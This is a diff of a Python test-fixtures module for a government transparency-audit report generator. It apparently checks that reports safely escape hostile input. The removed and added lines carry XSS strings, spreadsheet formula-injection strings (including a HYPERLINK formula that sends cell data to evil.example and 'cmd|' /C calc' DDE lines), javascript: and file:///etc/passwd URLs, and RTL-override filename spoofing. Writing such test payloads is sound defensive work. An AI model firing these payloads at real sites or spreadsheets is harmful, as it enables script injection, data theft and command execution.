@@ -2,332 +2,88 @@
 
 from __future__ import annotations
 
-import hashlib
 from collections.abc import Sequence
-from dataclasses import dataclass, field
+from dataclasses import dataclass, field, replace
 from datetime import UTC, date, datetime, timedelta
 from pathlib import Path
 from typing import Any
-from zoneinfo import ZoneInfo
 
 from auditor.model import (
-    Alternative,
-    Basis,
     Body,
     Bounds,
     Capture,
     Catalogue,
     Change,
-    Criterion,
     Dataset,
-    Dimension,
-    Document,
-    Evidence,
     Facts,
     Finding,
-    Indicator,
-    Item,
     Judgement,
     Part,
     Portal,
-    Refusal,
-    Resource,
     RunSummary,
     Score,
-    Searched,
     Sensitivity,
-    Site,
     SiteFacts,
     Status,
     Table,
     TableError,
     Text,
     TitleFacts,
-    Verdict,
     Visit,
 )
 from reports.publish import publish
-
-ZONE = ZoneInfo("Asia/Jakarta")
-AT = datetime(2026, 11, 3, 1, 0, tzinfo=ZONE)
-RUN = "20261103T010000"
-CODE = "99.71"
-
-INDICATORS = (
-    Indicator("jenis-informasi", Text("Jenis informasi", "Kinds of information"), 40),
-    Indicator("digitalisasi", Text("Digitalisasi", "Digitalisation"), 20),
-    Indicator("kualitas-informasi", Text("Kualitas informasi", "Quality of information"), 10),
-    Indicator("pelayanan-informasi", Text("Pelayanan informasi", "Information service"), 10),
-    Indicator("komitmen-organisasi", Text("Komitmen organisasi", "Commitment"), 10),
-    Indicator("sarana-prasarana", Text("Sarana dan prasarana", "Facilities"), 10),
+from tests.reports.atoms import (
+    AT,
+    BANDS,
+    BOUNDS_OF,
+    CODE,
+    INDICATORS,
+    PARTS,
+    REASON_OF,
+    RUN,
+    SENSITIVITY,
+    ZONE,
+    Cell,
+    catalogue,
+    criterion,
+    dataset,
+    digest,
+    document,
+    finding,
+    site_facts,
 )
-BANDS = (
-    ("Informatif", 90.0),
-    ("Menuju Informatif", 80.0),
-    ("Cukup Informatif", 60.0),
-    ("Kurang Informatif", 40.0),
-    ("Tidak Informatif", 0.0),
-)
+from tests.reports.payloads import HOSTILE, HOSTILE_URLS
 
-SENSITIVITY = Sensitivity(
-    35.0,
-    70.5,
-    2_000,
-    7,
-    (
-        Alternative("weights", 38.0, 68.25),
-        Alternative("equal", 40.0, 65.0),
-        Alternative("geometric", 35.0, 64.0),
-        Alternative("without", 42.0, 70.5, "digitalisasi"),
-    ),
-)
-_KURANG = "Kurang Informatif"
-PARTS = (
-    Part("unit", "Dinas Kesehatan", Bounds(40.0, 44.0, 50.0, 0.9), _KURANG, _KURANG, _KURANG, 5),
-    Part("role", "ppid", Bounds(0.0, None, 100.0, 0.0), "Tidak Informatif", "Informatif", None, 3),
-)
-
-HOSTILE = (
-    "<script>alert(document.domain)</script>",
-    '"><img src=x onerror=alert(1)>',
-    "'-alert(1)-'",
-    "javascript:alert(1)",
-    '=HYPERLINK("http://evil.example/?"&A1,"klik")',
-    "+62 812=cmd|' /C calc'!A0",
-    "@SUM(1+1)*cmd|' /C calc'!A0",
-    "-2+3+cmd|' /C calc'!A0",
-    "\t=1+1",
-    "\r=1+1",
-    "Dokumen \u202efdp.exe\u202c akhir",
-    "\u2067مستند الميزانية\u2069 RKA 2024",
-    "\x00\x07\x1b[31mmerah\x1b[0m\x9b",
-    "{{ 7*7 }}{% raw %}${7*7}#{7*7}",
-    "</title></style></textarea><svg onload=alert(1)>",
-    "&lt;b&gt; &amp;#x3c;script&#x3e;",
-    "😀👩‍👩‍👧‍👦 Laporan 🇮🇩 कार्य 文書",
-    "]]><!--<x>-->",
-    "A" * 10_000,
-    "kata " * 2_000,
-    "100% %(tidak)s %s {kosong}",
-    "\ud800 surrogat",
-)
-HOSTILE_URLS = (
-    "javascript:alert(1)",
-    "JaVaScRiPt:alert(1)",
-    " javascript:alert(1)",
-    "java\nscript:alert(1)",
-    "data:text/html,<script>alert(1)</script>",
-    "vbscript:msgbox(1)",
-    "file:///etc/passwd",
-    "//evil.example/x",
-    "https://",
-    "https:\\\\evil.example",
-    "https://user:pass@evil.example/",
-    'https://ppid.contoh.example/a?b="><script>alert(1)</script>',
-    "https://ppid.contoh.example/'onmouseover='alert(1)",
-    "https://ppid.contoh.example/" + "a" * 9_000,
-    "http://[::1",
-)
-
-
-@dataclass(frozen=True)
-class Cell:
-    """One field of the matrix."""
-
-    unit: str
-    kind: str
-    year: int
-    status: Status
-    url: str | None = None
-    reason: str = ""
-
-
-def criterion(number: int, indicator: str, level: Any = "core", verified: bool = True) -> Criterion:
-    return Criterion(
-        id=f"kriteria-{number}",
-        indicator=indicator,
-        level=level,
-        weight=1.0,
-        question=Text(f"Apakah hal {number} tersedia?", f"Is thing {number} available?"),
-        met=Text(f"Hal {number} tersedia", f"Thing {number} is available"),
-        unmet=Text(f"Hal {number} belum ditemukan", f"Thing {number} was not found"),
-        why=Text("Warga berhak tahu.", "Citizens have a right to know."),
-        how=Text("Dicari di PPID.", "Looked for on the PPID site."),
-        limits=Text("Isi gambar tidak dibaca.", "Images are not read."),
-        basis=(
-            Basis("UU 14/2008 Pasal 9 ayat (2)", "https://peraturan.example/uu-14-2008", verified),
-            Basis("PERKI 1/2021 Pasal 14", "", not verified),
-        ),
-        remedies={"default": Text(f"Unggah hal {number}.", f"Publish thing {number}.")},
-        actor="PPID Utama",
-        since="1",
-        judge="document",
-        freshness="F-DPA" if number % 3 == 0 else None,
-    )
-
-
-DIMENSIONS = tuple(
-    Dimension(key, Text(name, english), Text(f"tentang {name}", f"about {english}"), "Giffinger 2007", verified=False)
-    for key, name, english in (
-        ("transparent-governance", "Pemerintahan yang transparan", "Transparent governance"),
-        ("public-services", "Layanan publik dan sosial", "Public and social services"),
-    )
-)
-
-
-def catalogue(criteria: Sequence[Criterion] | None = None) -> Catalogue:
-    made = criteria or [
-        *(criterion(n, INDICATORS[n % 6].id, verified=n % 2 == 0) for n in range(12)),
-        criterion(12, "komitmen-organisasi", level="unobservable"),
-    ]
-    return Catalogue(
-        version="c0ffee" + "0" * 58,
-        indicators=INDICATORS,
-        criteria=tuple(made),
-        reasons={
-            "found": Text("ada", "found"),
-            "stale": Text("yang ada tahun {year}", "the newest is of {year}"),
-            "image-only": Text("hanya gambar", "only an image"),
-        },
-        items={"available": 0.4, "current": 0.2, "series": 0.15, "open": 0.15, "searchable": 0.1},
-        bands=BANDS,
-        dimensions=DIMENSIONS,
-        calendar={
-            "F-DPA": {
-                "month": 1,
-                "day": 31,
-                "offset": 0,
-                "name": {"id": "DPA tahun berjalan", "en": "DPA of the present year"},
-                "legal": {"id": "Disahkan setelah APBD.", "en": "Approved after the budget."},
-                "basis": [{"article": "PP 12/2019 Pasal 128", "source": "ingatan", "verified": False}],
-            },
-            "F-RKPD": {"month": 8, "day": 1, "offset": 1, "covers": True},
-        },
-    )
-
-
-def digest(text: str) -> str:
-    return hashlib.sha256(text.encode("utf-8", "replace")).hexdigest()
-
-
-BOUNDS_OF = {
-    Status.MET: (1.0, 1.0),
-    Status.PARTLY: (0.4, 0.6),
-    Status.UNMET: (0.0, 0.0),
-    Status.UNKNOWN: (0.0, 1.0),
-    Status.NOT_APPLICABLE: (0.0, 0.0),
-}
-REASON_OF = {
-    Status.MET: "found-current",
-    Status.PARTLY: "stale",
-    Status.UNMET: "not-found",
-    Status.UNKNOWN: "site-unreachable",
-    Status.NOT_APPLICABLE: "not-applicable",
-}
-
-
-def finding(
-    asked: Criterion,
-    status: Status,
-    *,
-    subject: str = CODE,
-    site: str | None = "ppid",
-    unit: str | None = None,
-    reason: str = "",
-    gain: float = 0.0,
-    text: str = "Yang terlihat di halaman Informasi Berkala.",
-    quote: str = "Daftar Informasi Publik 2024",
-    url: str = "https://ppid.contoh.example/berkala",
-    body: str = "halaman",
-    state: Any = "persisting",
-) -> Finding:
-    low, high = BOUNDS_OF[status]
-    proof = Evidence(url, datetime(2026, 11, 2, 18, 5, tzinfo=UTC), digest(body), "ppid.warc.gz", quote)
-    return Finding(
-        id=digest(asked.id + subject)[:16],
-        criterion=asked,
-        verdict=Verdict(
-            subject=subject,
-            low=low,
-            high=high,
-            reason=reason or REASON_OF[status],
-            site=site,
-            unit=unit,
-            evidence=() if status is Status.UNKNOWN else (proof,),
-            items=(
-                (Item("available", Status.MET, "found"), Item("current", Status.UNMET, "stale"))
-                if status is Status.PARTLY
-                else ()
-            ),
-            searched=(
-                (Searched("ppid", "Informasi Berkala", 41, (("robots", 1), ("trap", 12)), True),)
-                if status is Status.UNMET
-                else ()
-            ),
-            applicable=status is not Status.NOT_APPLICABLE,
-        ),
-        message=Text(text, text),
-        remedy=Text(f"Unggah {text}", f"Publish {text}"),
-        gain=gain,
-        since=date(2026, 11, 2),
-        state=None if status is Status.MET else state,
-    )
-
-
-def site_facts(id_: str = "ppid", role: Any = "ppid", **more: Any) -> SiteFacts:
-    visit = Visit(
-        id_,
-        "ok",
-        exhausted=True,
-        pages=41,
-        refused=(
-            Refusal("https://ppid.contoh.example/admin", "robots"),
-            Refusal("https://lain.example/", "other-host"),
-        ),
-        delay_seconds=1.0,
-    )
-    return SiteFacts(
-        Site(id_, role, f"https://{id_}.contoh.example/", f"{id_.upper()} Kota Contoh", unit="Diskominfo"),
-        more.pop("visit", visit),
-        **more,
-    )
-
-
-def document(number: int, title: str = "", url: str = "", **more: Any) -> Document:
-    return Document(
-        url=url or f"https://ppid.contoh.example/file/{number}.pdf",
-        site="ppid",
-        title=title or f"DPA Dinas Contoh {number} TA 2025",
-        facts=more.pop("facts", TitleFacts("dpa", (2025,), None, "Dinas Contoh", 0.9)),
-        found_on="https://ppid.contoh.example/berkala",
-        digest=more.pop("digest", digest(f"dokumen {number}")),
-        format="pdf",
-        bytes=120_000,
-        pages=4,
-        readable=more.pop("readable", True),
-        **more,
-    )
-
-
-def dataset(number: int, title: str = "", url: str = "", fresh: bool | None = True) -> Dataset:
-    error = TableError(5, "jumlah", "abc", "number", Text("bukan bilangan: abc", "not a number: abc"), more=2)
-    table = Table("penduduk", ("kelurahan", "jumlah"), 68, (error,), 3, "2024")
-    return Dataset(
-        id=f"dataset-{number}",
-        title=title or f"Jumlah Penduduk {number}",
-        site="data",
-        url=url or f"https://data.contoh.example/dataset/{number}",
-        platform="ckan",
-        unit="Disdukcapil",
-        licence="CC-BY-4.0",
-        modified=date(2025, 3, 1),
-        cadence="tahunan",
-        resources=(
-            Resource("r1", "penduduk.csv", f"https://data.contoh.example/{number}.csv", "CSV", "csv", table=table),
-        ),
-        newest_period="2024",
-        fresh=fresh,
-    )
+__all__ = [
+    "AT",
+    "BANDS",
+    "BOUNDS_OF",
+    "CODE",
+    "HOSTILE",
+    "HOSTILE_URLS",
+    "HTML",
+    "INDICATORS",
+    "PARTS",
+    "REASON_OF",
+    "RUN",
+    "SENSITIVITY",
+    "ZONE",
+    "Cell",
+    "Stage",
+    "catalogue",
+    "cells",
+    "criterion",
+    "dataset",
+    "digest",
+    "document",
+    "finding",
+    "hostile_stage",
+    "judgement",
+    "ordinary",
+    "ordinary_stage",
+    "series",
+    "site_facts",
+]
 
 
 def judgement(
@@ -495,6 +251,15 @@ def ordinary_stage(**more: Any) -> Stage:
     return Stage(judgement(findings, sites=sites), changes=changes, matrix=tuple(cells()), **more)
 
 
+def _hostile_dataset(number: int, text: str) -> Dataset:
+    """Payloads as the portal's words, the file's name, its columns and its cells."""
+    made = dataset(number, text, HOSTILE_URLS[number % len(HOSTILE_URLS)])
+    wrong = TableError(5, text, text, "number", Text(f"bukan bilangan: {text}", f"not a number: {text}"), more=2)
+    table = Table(text, (text, "jumlah"), 68, (wrong,), 3, text)
+    resource = replace(made.resources[0], name=text, url=HOSTILE_URLS[number % len(HOSTILE_URLS)], table=table)
+    return replace(made, unit=text, licence=text, cadence=text, newest_period=text, resources=(resource,))
+
+
 def hostile_stage() -> Stage:
     """Every payload in every place that outside text can come from."""
     known = [criterion(n, INDICATORS[n % 6].id) for n in range(len(HOSTILE))]
@@ -516,17 +281,23 @@ def hostile_stage() -> Stage:
         document(n, text, HOSTILE_URLS[n % len(HOSTILE_URLS)], facts=TitleFacts("dpa", (2025,), None, text))
         for n, text in enumerate(HOSTILE)
     )
-    datasets = tuple(dataset(n, text, HOSTILE_URLS[n % len(HOSTILE_URLS)]) for n, text in enumerate(HOSTILE))
+    datasets = tuple(_hostile_dataset(n, text) for n, text in enumerate(HOSTILE))
     matrix = tuple(
         Cell(text, "dpa", 2025, list(Status)[n % 5], HOSTILE_URLS[n % len(HOSTILE_URLS)])
         for n, text in enumerate(HOSTILE)
     )
     sites = (
         site_facts(documents=documents),
-        site_facts("data", "portal", datasets=datasets, portal=Portal("data", "ckan", "api")),
+        site_facts("data", "portal", datasets=datasets, portal=Portal("data", HOSTILE[0], "api", detail=HOSTILE[1])),
+        *(
+            replace(made, site=replace(made.site, name=text, unit=text))
+            for n, text in enumerate(HOSTILE[:6])
+            for made in [site_facts(f"c{n}", "covid" if n % 2 else "service")]
+        ),
     )
+    parts = tuple(replace(PARTS[0], name=text) for text in HOSTILE)
     return Stage(
-        judgement(findings, sites=sites, name="Kota </title><script>alert(1)</script>"),
+        judgement(findings, sites=sites, parts=parts, name="Kota </title><script>alert(1)</script>"),
         catalogue=catalogue(known),
         changes=tuple(Change(f, Status.MET, "city") for f in findings),
         matrix=matrix,
